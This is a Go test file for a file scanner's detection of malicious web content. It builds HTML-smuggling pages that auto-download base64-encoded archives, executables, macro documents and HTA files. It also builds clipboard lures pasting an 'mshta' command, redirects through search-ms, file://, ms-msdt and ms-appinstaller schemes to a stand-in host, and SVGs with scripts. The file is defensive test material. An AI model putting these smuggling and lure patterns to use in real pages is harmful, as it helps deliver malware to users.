package inspect

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"sekisho/internal/finding"
	"sekisho/internal/fixture"
)

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// smuggling hands a file to its reader by itself.
func smuggling(b []byte, name string) string {
	return "<html><body><p>Password: 4711</p><script>var b=Uint8Array.from(atob('" + b64(b) + "'),c=>c.charCodeAt(0));" +
		"var a=document.createElement('a');a.href=URL.createObjectURL(new File([b],'" + name + "'));a.download='" + name + "';a.click()</script></body></html>"
}

func TestPagesThatSmuggle(t *testing.T) {
	archive := zipOf(entry("a.exe", headerOf("PE\x00\x00", 2)))
	for _, tt := range []struct {
		name, file string
		page       string
		want       []string
	}{
		{"archive with a program", "a.html", smuggling(archive, "paper.zip"), []string{"executable.file paper.zip!/a.exe", "html.smuggling"}},
		{"program", "a.html", smuggling(headerOf("PE\x00\x00", 2), "paper.exe"), []string{"executable.file paper.exe", "html.smuggling"}},
		{"document with macros", "a.htm", smuggling(fixture.DOCM(quiet), "paper.docm"), []string{"vba.present paper.docm", "html.smuggling"}},
		{"script", "a.html", smuggling([]byte(hta+strings.Repeat(" ", 64)), "paper.hta"), []string{"script.file paper.hta", "html.smuggling"}},
		{"page in XML", "a.xml", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">` + smuggling(archive, "paper.zip")[6:], []string{"executable.file paper.zip!/a.exe", "html.smuggling"}},
		{"page behind other bytes", "a.html", "\x00\x01\x02\x03" + smuggling(archive, "paper.zip"), []string{"executable.file paper.zip!/a.exe", "html.smuggling"}},
		{"link to an archive", "a.html", `<html><a download="paper.zip" href="data:application/zip;base64,` + b64(archive) + `">Open</a></html>`, []string{"executable.file paper.zip!/a.exe", "html.smuggling"}},
		{"picture", "a.svg", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>` + smuggling(archive, "paper.zip")[len("<html><body><p>Password: 4711</p><script>"):],
			[]string{"script.file", "executable.file paper.zip!/a.exe", "html.smuggling"}},
		{"archive that calls itself a picture", "a.html", `<html><img id=i src="data:image/png;base64,` + b64(archive) + `"><script>saveAs(new Blob([i.src]),"a.zip")</script></html>`,
			[]string{"executable.file payload 1!/a.exe", "html.smuggling"}},
	} {
		_, r := scanNamed(t, tt.file, []byte(tt.page))
		if diff := cmp.Diff(tt.want, lines(r)); diff != "" {
			t.Errorf("%s: %s", tt.name, diff)
		}
	}
}

func TestPagesThatLeadToPrograms(t *testing.T) {
	const paste = `navigator.clipboard.writeText("mshta https://example.test/a.hta")`
	for _, tt := range []struct {
		name, page string
		want       []string
	}{
		{"a search on another machine", `<html><meta http-equiv=refresh content="0; url='search-ms:query=a&crumb=location:\\example.test@80\a'"></html>`, []string{"url.file"}},
		{"a file of another machine", `<html><meta http-equiv=refresh content="0;URL=file://example.test/a/a.lnk"></html>`, []string{"url.file"}},
		{"a program by its scheme", `<html><script>location.href = "ms-msdt:/id PCWDiagnostic"</script></html>`, []string{"url.file"}},
		{"an installer", `<html><a href="ms-appinstaller:?source=https://example.test/a.msix">Open</a></html>`, []string{"url.file"}},
		{"a command to paste", `<html><button onclick='` + paste + `'>Copy</button></html>`, []string{"script.file", "script.suspicious"}},
		{"an address to copy", `<html><script>function f(){navigator.clipboard.writeText("https://example.test/a?b=c")}</script></html>`, nil},
		{"a command to read", `<html><pre>mshta https://example.test/a.hta</pre><script>b.onclick=()=>navigator.clipboard.writeText(p.innerText)</script></html>`, nil},
		{"another page", `<html><meta http-equiv=refresh content="0; url=https://example.test/"></html>`, nil},
		{"a file of this machine", `<html><a href="file:///C:/a/a.html">a</a><a href="file://server/share/a.xlsx">b</a></html>`, nil},
	} {
		_, r := scanNamed(t, "a.html", []byte(tt.page))
		if diff := cmp.Diff(tt.want, lines(r)); diff != "" {
			t.Errorf("%s: %s", tt.name, diff)
		}
	}
}

func TestSavedPagesThatSmuggle(t *testing.T) {
	page := smuggling(zipOf(entry("a.exe", headerOf("PE\x00\x00", 2))), "paper.zip")
	saved := "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n" + page + "\r\n--b--\r\n"
	if _, r := scanNamed(t, "a.mht", []byte(saved)); detailOf(r, finding.HTMLSmuggling) == "" {
		t.Errorf("%v", r.Findings)
	}
}

func TestPagesThatCarryWhatTheyShow(t *testing.T) {
	pdf := []byte("%PDF-1.4\n" + strings.Repeat("% words\n", 20))
	invoice := []byte("<?xml version=\"1.0\"?><Invoice>" + strings.Repeat("<Line/>", 30) + "</Invoice>")
	for name, p := range map[string]string{
		"document shown":      `<html><embed type="application/pdf" src="data:application/pdf;base64,` + b64(pdf) + `"></html>`,
		"invoice to download": `<html><a download="invoice.xml" href="data:application/xml;base64,` + b64(invoice) + `">XML</a></html>`,
		"script with a PDF":   smuggling(pdf, "invoice.pdf"),
		"table as CSV":        `<html><script>function save(){var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([rows.join()],{type:'text/csv'}));a.download='t.csv';a.click()}</script></html>`,
		"pictures":            `<html><img src="data:image/png;base64,` + b64([]byte("\x89PNG\r\n\x1A\n"+strings.Repeat("\x00", 100))) + `"></html>`,
		"form":                `<html><form action="https://example.test/"><input name=a></form></html>`,
	} {
		if _, r := scanNamed(t, "a.html", []byte(p)); len(r.Findings) > 0 {
			t.Errorf("%s: %v", name, r.Findings)
		}
	}
}

func TestThePasswordInAPageOpensItsArchive(t *testing.T) {
	locked := zipOf(fixture.ZIPEntry{Name: "a.exe", Data: headerOf("PE\x00\x00", 2), Password: "4711"})
	_, r := scanNamed(t, "a.html", []byte(smuggling(locked, "paper.zip")))
	if detailOf(r, finding.HTMLSmuggling) == "" || detailOf(r, finding.ExecutableFile) == "" {
		t.Errorf("%v", r.Findings)
	}
}

func TestTheTextOfAMailIsNoPage(t *testing.T) {
	r := readMail(t, page+smuggling(zipOf(entry("a.exe", exe())), "a.zip"))
	if detailOf(r, finding.HTMLSmuggling) != "" {
		t.Errorf("%v", r.Findings)
	}
}

func TestPicturesWithScripts(t *testing.T) {
	for _, tt := range []struct {
		name, svg string
		want      []string
	}{
		{"script", `<svg><script>location="https://example.test/"</script></svg>`, []string{"script.file"}},
		{"script elsewhere", `<svg><script xlink:href="https://example.test/a.js"/></svg>`, []string{"script.file"}},
		{"when it is loaded", `<!-- a --><svg onload="location='https://example.test/'"/>`, []string{"script.file"}},
		{"page in the picture", `<svg><foreignObject><iframe src="https://example.test/"/></foreignObject></svg>`, []string{"script.file"}},
		{"drawing", `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "a"><svg><style>a{}</style><path d="M0 0"/></svg>`, nil},
		{"drawing with a link", `<svg><a xlink:href="https://example.test/"><text>x</text></a><g onclick="f()"/></svg>`, nil},
	} {
		kind, r := scanNamed(t, "a.svg", []byte(tt.svg))
		if diff := cmp.Diff(tt.want, lines(r)); diff != "" || tt.want == nil && kind != KindSVG {
			t.Errorf("%s: %s %s", tt.name, kind, diff)
		}
	}
}
